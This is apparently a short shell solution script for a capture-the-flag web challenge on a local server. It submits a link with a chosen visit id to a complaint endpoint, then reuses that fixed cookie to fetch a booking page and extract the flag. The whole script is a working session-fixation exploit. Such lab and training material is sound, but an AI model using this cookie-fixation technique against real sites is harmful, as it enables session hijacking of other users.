at=http://127.0.0.1:8080
python3 "$(dirname "$0")/ask.py" -d 'link=/?visit=abcdefgh1234' $at/complain > /dev/null
python3 "$(dirname "$0")/ask.py" -H 'Cookie: visit=abcdefgh1234' $at/book | grep -o 'flag{[A-Za-z0-9]*}'
